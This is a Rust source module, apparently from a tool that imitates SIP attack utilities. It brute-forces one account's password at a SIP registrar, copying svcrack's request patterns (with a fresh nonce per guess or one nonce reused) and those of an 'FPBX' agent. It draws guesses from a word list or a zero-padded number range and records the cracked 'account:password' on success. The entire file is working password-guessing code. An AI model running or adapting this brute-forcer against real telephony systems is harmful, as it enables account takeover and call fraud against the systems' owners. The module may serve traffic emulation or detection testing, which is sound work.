//! Guesses one account's password.

use std::collections::VecDeque;
use std::net::SocketAddr;
use std::time::Duration;

use sip::Message;

use super::super::stop::Stop;
use super::exchange::{Attempt, Exchange};
use super::layout::{self, Ends, Guess, Kept};
use super::{AttackError, AttackFigures, AttackOptions, Ended};

/// Challenges kept, and guesses remembered until their answer, at most. svcrack rarely has more than a few.
const KEPT: usize = 64;
/// How long the guesser waits for a challenge before it asks for another: svcrack's own time.
const IDLE: Duration = Duration::from_millis(5);

/// Which tool's behaviour.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Manner {
    /// svcrack: one Call-ID, CSeq 2 for every guess, a fresh nonce for each.
    Svcrack,
    /// `svcrack -n`: the same with the first nonce for all guesses.
    SvcrackOneNonce,
    /// An agent that calls itself FPBX: each guess is a transaction of its own, challenge first.
    Fpbx,
}

/// The passwords to try.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Words {
    /// These.
    List(Vec<String>),
    /// Numbers from `first`, with at least so many digits, until the attack ends.
    Numbers {
        /// The first.
        first: u32,
        /// Shorter ones get zeros in front.
        digits: usize,
    },
}

impl Words {
    fn word(&self, index: u32) -> Option<String> {
        match self {
            Self::List(words) => words.get(index as usize).cloned(),
            Self::Numbers { first, digits } => {
                first.checked_add(index).map(|number| format!("{number:0width$}", width = *digits))
            }
        }
    }
}

/// What to guess.
#[derive(Debug, Clone)]
pub struct GuessOptions {
    /// How to send.
    pub attack: AttackOptions,
    /// The registrar.
    pub target: SocketAddr,
    /// The account.
    pub account: String,
    /// The passwords.
    pub words: Words,
    /// The manner.
    pub manner: Manner,
}

/// Guesses until the password is found, the words are used up, or the attack is over.
///
/// # Errors
/// When the source cannot be used or the socket breaks.
pub fn run(options: &GuessOptions, stop: &Stop) -> Result<AttackFigures, AttackError> {
    let mut exchange = Exchange::start(&options.attack, stop)?;
    let call_id = exchange.dice.roll_32().to_string();
    let ends = Ends { source: exchange.source, target: options.target };
    let mut guesser = Guesser {
        options,
        ends,
        call_id,
        guesses: 0,
        serial: 0,
        kept: Vec::new(),
        recent: VecDeque::new(),
        found: None,
    };
    let ended = loop {
        if guesser.found.is_some() {
            break Ended::Found;
        }
        if let Some(ended) = exchange.over() {
            break ended;
        }
        let Some(attempt) = guesser.next(&mut exchange) else {
            break Ended::Done;
        };
        exchange.send(attempt, options.target);
        exchange.listen(|exchange, answer, _| guesser.hear(exchange, answer))?;
        if guesser.kept.is_empty() {
            exchange.wait_for_answer(IDLE, |exchange, answer, _| guesser.hear(exchange, answer))?;
        }
    };
    let figures = exchange.finish(ended, |exchange, answer, _| guesser.hear(exchange, answer))?;
    let found_late = guesser.found.is_some() && figures.ended == Ended::Done;
    Ok(AttackFigures { ended: if found_late { Ended::Found } else { figures.ended }, ..figures })
}

struct Guesser<'a> {
    options: &'a GuessOptions,
    ends: Ends,
    call_id: String,
    /// Guesses made.
    guesses: u32,
    /// Transactions begun.
    serial: u32,
    /// Challenges to be answered with guesses, the newest last.
    kept: Vec<Kept>,
    /// Branches of the newest guesses, and the word that each tried.
    recent: VecDeque<(String, u32)>,
    found: Option<String>,
}

impl Guesser<'_> {
    /// The next request; `None` when the words are used up. Without a challenge at hand it asks for one.
    fn next(&mut self, exchange: &mut Exchange) -> Option<Attempt> {
        let (account, dice) = (&self.options.account, &mut exchange.dice);
        let kept = match self.options.manner {
            Manner::Svcrack | Manner::Fpbx => self.kept.pop(),
            Manner::SvcrackOneNonce => self.kept.last().cloned(),
        };
        let Some(kept) = kept else {
            self.serial = self.serial.wrapping_add(1);
            return Some(match self.options.manner {
                Manner::Svcrack | Manner::SvcrackOneNonce => {
                    layout::svcrack_first(self.ends, account, &self.call_id, dice)
                }
                Manner::Fpbx => layout::fpbx(self.ends, account, self.serial, None, dice),
            });
        };
        let password = self.options.words.word(self.guesses)?;
        let guess = Guess { kept: &kept, password: &password, count: self.guesses + 1 };
        let attempt = match self.options.manner {
            Manner::Svcrack | Manner::SvcrackOneNonce => {
                layout::svcrack_guess(self.ends, account, &self.call_id, guess, dice)
            }
            Manner::Fpbx => layout::fpbx(self.ends, account, self.serial, Some(guess), dice),
        };
        self.recent.push_back((attempt.branch.clone(), self.guesses));
        if KEPT < self.recent.len() {
            self.recent.pop_front();
        }
        self.guesses += 1;
        Some(attempt)
    }

    fn hear(&mut self, exchange: &mut Exchange, answer: &Message<'_>) {
        let (Some(status), Some(cseq)) = (answer.status(), answer.cseq()) else {
            return;
        };
        // CSeq 1 asks for a challenge, CSeq 2 guesses: so it is in both tools.
        let is_guess = cseq.number == 2;
        match status {
            200..=299 if is_guess => {
                let branch = answer.via().and_then(|via| via.branch).unwrap_or_default();
                let guess = self.recent.iter().find(|(sent, _)| sent.as_bytes() == branch);
                let password = guess.and_then(|(_, index)| self.options.words.word(*index));
                let finding = format!("{}:{}", self.options.account, password.unwrap_or_default());
                exchange.note(finding.clone());
                self.found = Some(finding);
            }
            401 | 403 | 404 | 407 if is_guess => exchange.count_rejection(),
            _ => {}
        }
        let wants_challenge = match self.options.manner {
            Manner::Svcrack => self.kept.len() < KEPT,
            Manner::SvcrackOneNonce => self.kept.is_empty(),
            // One transaction at a time: a challenge belongs to the newest one.
            Manner::Fpbx => !is_guess && self.kept.is_empty(),
        };
        if let Some(challenge) = answer.challenge().filter(|_| wants_challenge) {
            self.kept.push(Kept::of(&challenge));
        }
    }
}
